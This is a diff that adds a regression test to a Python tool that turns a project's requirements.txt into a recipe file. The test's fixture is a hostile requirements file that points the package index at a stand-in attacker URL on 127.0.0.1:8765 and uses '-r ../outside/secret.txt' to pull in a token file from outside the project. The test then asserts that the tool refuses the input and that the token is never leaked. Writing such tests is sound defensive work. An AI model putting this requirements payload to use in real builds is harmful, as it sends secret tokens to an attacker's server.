@@ -484,3 +484,16 @@ def test_include_paths_over_the_name_limit(project: Path) -> None:
         assert message.startswith("requirements.txt:2: ") and "too long" in message
     message = fails(project, requirements=["c" * 5000])
     assert "too long" in message
+
+
+def test_a_token_file_never_reaches_the_recipe_or_an_index_url(project: Path) -> None:
+    """The issue's exploit: `-i http://127.0.0.1:8765/simple` and `-r` of a token file put the
+    token in recipe.json (as a requirement name) and cook asked the attacker's index for it."""
+    write(project / "requirements.txt",
+          "-i http://127.0.0.1:8765/simple\n-r ../outside/secret.txt\n")
+    recipe = project.parent / "recipe.json"
+    done = chef("prepare", "--project-dir", str(project), "--recipe-path", str(recipe))
+    assert done.returncode == errors.EXIT_INPUT
+    assert SECRET not in done.stderr + done.stdout
+    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
+    assert not recipe.exists()
